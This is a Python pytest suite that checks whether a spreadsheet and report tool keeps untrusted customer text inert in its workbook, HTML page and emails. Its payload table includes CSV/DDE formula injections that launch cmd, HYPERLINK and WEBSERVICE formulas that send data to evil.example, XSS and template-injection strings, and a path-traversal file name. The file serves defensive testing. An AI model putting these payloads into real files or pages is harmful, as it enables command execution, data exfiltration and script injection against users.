"""Text from outside stays text: in the portfolio, its page, and every mail, whatever it looks like.

Payloads stand in every free text of a customer's card and of an account plan, in the names of
files, and in what a mail says of itself.
"""

from __future__ import annotations

import io
import re
import shutil
import zipfile
from collections.abc import Callable
from dataclasses import replace
from email import message_from_bytes
from email.message import EmailMessage
from email.policy import default
from html.parser import HTMLParser
from itertools import cycle
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pytest

from kamxl.core.cards.internal import TECHNICAL
from kamxl.core.records.plan import AccountPlan
from kamxl.core.records.register import Answers, Effort, Requirement, Scorecard, Wish
from kamxl.wording.texts import templates_folder
from kamxl.workflow.incoming.consolidate import consolidate
from kamxl.workflow.outgoing.issue import issue
from kamxl.workflow.outgoing.writing import thank
from tests.workflow.canaries import Cage, text_fields, with_texts
from tests.workflow.making import NOW, PRESS, Team, answers_to, codes

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
PAYLOADS = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "dde": "=cmd|'/c calc'!A0",
    "old-dde": '=DDE("cmd";"/c calc";"x")',
    "link": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "fetch": '=WEBSERVICE("http://evil.example/")',
    "wide-equals": "＝1+1",
    "wide-plus": "＋1+1",
    "wide-minus": "－1+1",
    "wide-at": "＠SUM(1)",
    "quoted": "'=1+1",
    "separators": '";=1+1;"\n=2+2',
    "script": "<script>alert(1)</script>",
    "attribute": '"><img src=http://evil.example/x onerror=alert(1)>',
    "template": "{{ 7 * 191 }}{% for x in y %}",
    "xml": "]]></t></si><f>1+1</f>&#61;1",
    "escape": "_x003D_1+1",
    "controls": "a\x01\x1b[31mb",
    "turned": "gpj.\u202excod",
}
_RISKY = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


class Spread:
    """Deals the payloads out, one after the other, beginning with another one each time."""

    def __init__(self, begin: int) -> None:
        self._payloads = cycle([*PAYLOADS.values()][begin:] + [*PAYLOADS.values()][:begin])

    def __call__(self, more: str = "") -> str:
        return f"{next(self._payloads)}{more}"


def answered(order, deal: Callable[..., str]) -> Answers:
    """Answers with a payload in every text a customer can type."""
    plain = answers_to(order)
    card = plain.scorecard
    asked = card.requirements[0]
    own = Requirement("own1", deal(" own"), 10.0)
    weights = (replace(asked, weight=40.0), *card.requirements[1:], own)
    ratings = {s: {**by, "own1": 50.0} for s, by in card.ratings.items()}
    return replace(
        plain,
        scorecard=Scorecard(weights, ratings),
        comments={asked.id: deal(" comment"), "own1": deal()},
        name=deal(),
        function=deal(),
        wishes=(Wish("w1", deal(), deal(" remedy"), 80.0),),
        efforts=(Effort("time", 40.0, deal()),),
    )


def planned(plan: AccountPlan, deal: Spread) -> AccountPlan:
    """A plan with a row in every table and a payload in every free text."""
    given = {name: getattr(plan, name) for name in ("workspace", "account", "period", "language")}
    made = replace(Cage().record(AccountPlan, **given), as_of=plan.as_of)
    fields = [one for one in text_fields(AccountPlan) if one[1] not in TECHNICAL]
    return with_texts(made, {one: deal(f" {n}") for n, one in enumerate(fields)})


def mail(card: bytes, payload: str) -> bytes:
    """A mail whose subject, sender and file names are payloads."""
    made = EmailMessage()
    shown = re.sub(r"[\x00-\x1f]", " ", payload)
    made["Subject"], made["To"] = shown, "kam@muster.example"
    made["From"] = f'"{shown.replace(chr(34), "")}" <somebody@evil.example>'
    made["Date"] = "Mon, 02 Mar 2026 10:30:00 +0100"
    made.set_content(payload)
    made.add_attachment(card, "application", "octet-stream", filename=f"{shown}.xlsx")
    return made.as_bytes()


@pytest.fixture(scope="module", params=[0, 8, 16])
def told(request, issued_root, tmp_path_factory):
    """A workspace with payloads everywhere, consolidated."""
    deal = Spread(request.param)
    root = tmp_path_factory.mktemp("told") / "w"
    shutil.copytree(issued_root, root)
    team = Team(root)
    for account, segment in (("ALPHA", "pumps"), ("ALPHA", "valves"), ("GAMMA", "pumps")):
        order = team.order(account, segment)
        card = team.filled(order, answered(order, deal))
        team.put(f"{account}-{segment}-{_name(deal())}.xlsx", card)
    for n, payload in enumerate(PAYLOADS.values()):
        team.put(f"{_name(payload)}{n}.txt", b"nothing")
    other = team.order("BETA")
    team.put("mail.eml", mail(team.filled(other, answered(other, deal)), deal()))
    plan = team.plan(edit=lambda plan: planned(plan, deal))
    team.keep(f"{_name(deal())}.xlsx", plan)
    result = consolidate(root, now=NOW)
    assert not {c for file in result.files for c in codes(file)} & {"unexpected", "unreadable"}
    assert result.report is not None
    return team, result


def _name(payload: str) -> str:
    return re.sub(r"[\x00-\x1f/\\]", " ", payload)


def core(payload: str) -> str:
    """What is left of a payload when it is shown: the longest piece without odd characters."""
    return max(re.split(r"[\x00-\x1f\u202e]+", payload), key=len).strip()


@pytest.mark.proof
def test_in_the_portfolio_it_is_text_and_formulas_are_ours(told):
    team, _ = told
    data = (team.root / "Portfolio.xlsx").read_bytes()
    formulas = 0
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            root = ElementTree.fromstring(archive.read(name)) if name.endswith(".xml") else None
            for formula in () if root is None else root.iter(f"{MAIN}f"):
                formulas += 1
                text = formula.text or ""
                # the payload may be compared with, as a string in quotes; it is never what runs
                bare = re.sub(r'"(?:[^"]|"")*"', '""', text)
                assert not re.search(r"evil|cmd|DDE|HYPERLINK|WEBSERVICE|^1\+1$|191", bare), text
            assert b'TargetMode="External"' not in archive.read(name)
    assert formulas > 50
    seen: set[str] = set()
    for sheet in openpyxl.load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.data_type == "s":
                    seen |= {name for name, p in PAYLOADS.items() if core(p)[:12] in cell.value}
                if cell.data_type == "s" and str(cell.value).startswith(_RISKY):
                    assert cell.quotePrefix, f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
    assert seen == set(PAYLOADS)


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.addresses: set[str] = set()
        self.words: list[str] = []
        self.scripts: list[str] = []
        self._script = False

    def handle_starttag(self, tag, attrs) -> None:
        self.tags.add(tag)
        self._script = tag == "script"
        self.attributes |= {name for name, _ in attrs}
        self.addresses |= {v or "" for name, v in attrs if name in ("href", "src", "action")}

    def handle_endtag(self, tag) -> None:
        self._script = False

    def handle_data(self, data) -> None:
        (self.scripts if self._script else self.words).append(data)


def parsed(html: str) -> _Tags:
    reader = _Tags()
    reader.feed(html)
    reader.close()
    return reader


def test_on_the_page_it_is_escaped(told):
    team, _ = told
    page = parsed((team.root / "Portfolio.html").read_text(encoding="utf-8"))
    assert not page.tags & {"img", "iframe", "object", "form", "link", "f"}
    ours = (templates_folder() / "report" / "portfolio.js").read_text(encoding="utf-8")
    assert [script.strip() for script in page.scripts] == [ours.strip()]  # and nobody else's
    assert not [name for name in page.attributes if name.startswith("on")]
    # into the page, a cell of the workbook or a file of the workspace: nowhere outside
    assert all(
        address.startswith(("#", "Portfolio.xlsx#", "inbox/", "plans/"))
        for address in page.addresses
    )
    words = " ".join(" ".join(page.words).split())
    seen = {n for n, p in PAYLOADS.items() if " ".join(core(p)[:12].split()) in words}
    assert seen == set(PAYLOADS)
    assert "1337" not in " ".join(page.words)  # 7 * 191


@pytest.mark.proof
def test_in_a_mail_it_is_text(told):
    team, _ = told
    thank(team.root)
    drafts = [p for p in team.root.rglob("*.eml") if "inbox" not in p.parts and "dank" in p.name]
    drafts = drafts or [p for p in team.root.rglob("*.eml") if "inbox" not in p.parts]
    assert drafts
    for path in drafts:
        message = message_from_bytes(path.read_bytes(), policy=default)
        assert not [name for name, value in message.items() if "\n" in value or "\r" in value]
        for part in message.walk():
            if part.get_content_type() == "text/html":
                page = parsed(part.get_content())
                assert not page.tags & {"script", "iframe", "object", "form"}
                assert not [name for name in page.attributes if name.startswith("on")]
                assert not any("evil" in address for address in page.addresses)
            if part.get_content_maintype() == "text":
                assert "1337" not in part.get_content()


@pytest.mark.proof
def test_what_cannot_be_shown_is_said(team):
    """A text beyond what a cell holds, and characters nobody can see."""
    order = team.order()
    long = answered(order, lambda more="": "x" * 32_000)
    team.put("long.xlsx", team.filled(order, long))
    odd = team.order("BETA")
    card = team.filled(odd, answered(odd, lambda more="": "PLACEHOLDER"))
    team.put("odd.xlsx", _with_controls(card))
    files = {file.path: file for file in consolidate(team.root, now=NOW).files}
    assert "text-cut" in codes(files["inbox/long.xlsx"])
    assert "text-cleaned" in codes(files["inbox/odd.xlsx"])
    book = openpyxl.load_workbook(team.root / "Portfolio.xlsx")
    longest = max(
        (len(c.value) for s in book.worksheets for row in s.iter_rows() for c in row
         if isinstance(c.value, str)), default=0)  # fmt: skip
    assert 1_000 < longest <= 32_767


def _with_controls(card: bytes) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(card)) as old, zipfile.ZipFile(made, "w") as new:
        for entry in old.infolist():
            content = old.read(entry).replace(b"PLACEHOLDER", b"a_x0001__x001B_b")
            new.writestr(entry.filename, content)
    return made.getvalue()


@pytest.mark.proof
def test_no_name_of_a_file_leads_anywhere(team):
    """Names are shown, never followed: nothing appears outside of what a run writes."""
    card = team.filled(team.order())
    team.put("mail.eml", mail(card, "../../../escaped"))
    before = {p for p in team.root.parent.rglob("*") if p.is_file()}
    consolidate(team.root, now=NOW)
    issue(team.root, press=PRESS, now=NOW)
    new = {p for p in team.root.parent.rglob("*") if p.is_file()} - before
    assert {p.name for p in new if p.parent == team.root} == {"Portfolio.xlsx", "Portfolio.html"}
    assert not [p for p in new if "escaped" in p.name or not p.is_relative_to(Path(team.root))]
